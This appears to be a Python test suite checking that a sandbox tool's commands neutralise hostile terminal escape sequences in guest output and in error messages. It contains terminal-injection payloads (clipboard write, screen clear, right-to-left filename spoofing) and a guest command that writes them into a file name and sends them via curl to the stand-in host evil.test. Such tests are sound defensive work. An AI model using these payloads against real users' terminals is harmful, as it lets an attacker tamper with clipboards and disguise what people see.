"""What a guest wrote is shown without anything that a terminal obeys; attach shows it as it is."""
import re

from session import Bottled

# Sets the clipboard, moves the cursor, turns the line round, a CSI in one character.
NASTY = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1;1H\u202egnp.exe\u009b31m\x7f"
IN_SHELL = r"\033]52;c;ZXZpbA==\007\033[2J\033[1;1H\342\200\256gnp.exe\302\23331m\177"
GUEST = ("printf '%s\\n'; printf '%s\\n' >\"$(printf '%s')\"; "
         "curl -sA \"$(printf '%s')\" http://evil.test/ >/dev/null; true") % ((IN_SHELL,) * 4)
OWN_SHADES = re.compile(rb"\x1b\[(?:0|1|2|31|32|33)m")


class Hostile(Bottled):
    once = True

    def harmless(self, t, colour):
        text = OWN_SHADES.sub(b"", t.shown) if colour else t.shown
        self.assertNotRegex(text, rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
        self.assertNotIn("\u202e".encode(), text)
        self.assertNotIn("\u009b".encode(), text)

    def test_no_verb_that_looks_at_a_bottle_obeys_it(self):
        status, _, error = self.person.run("start", "--yes", "--label", "my\u202elabel \x1b[2J", "--", "sh", "-c",
                                           GUEST)
        self.assertEqual(status, 0, error)
        slug, = self.person.slugs()
        seen = 0
        for words in (["ls"], ["info", slug], ["logs", slug], ["logs", "--keeper", slug], ["audit", slug],
                      ["ls", "--json"], ["info", "--json", slug], ["audit", "--json", slug], ["diff", "--json", slug],
                      ["diff", slug], ["policy", "suggest", slug], ["export", "--dry-run", slug]):
            for colour in (True, False):
                with self.subTest(" ".join(words), colour=colour):
                    t = self.person.on_terminal(*words, **({} if colour else {"NO_COLOR": "1"}))
                    self.assertEqual(t.status(), 0, t.shown)
                    self.harmless(t, colour)
                    seen += b"52;c;ZXZpbA==" in t.shown
        # The control: it was there to be shown.
        self.assertGreaterEqual(seen, 6)

    def test_no_error_that_quotes_obeys_it(self):
        for words in (["start", "--yes", "--rm", "--", "no" + NASTY], ["start", NASTY], ["exec", NASTY, "--", "x"],
                      ["start", "--bottle", NASTY], ["attach", NASTY], [NASTY], ["cp", "a", NASTY],
                      ["policy", "test", NASTY, NASTY]):
            with self.subTest(words[0]):
                t = self.person.on_terminal(*words, NO_COLOR="1")
                self.assertNotEqual(t.status(), 0)
                self.harmless(t, False)

    def test_attach_is_raw_by_nature(self):
        slug = self.detached("sh", "-c", "until [ -e go ]; do sleep 0.05; done; printf '%s'; sleep 1000" % IN_SHELL)
        t = self.person.on_terminal("attach", slug)
        t.wait_for("Ctrl-] leaves")
        self.person.run("exec", slug, "--", "touch", "/workspace/go")
        t.wait_for(NASTY)


CASES = [Hostile]
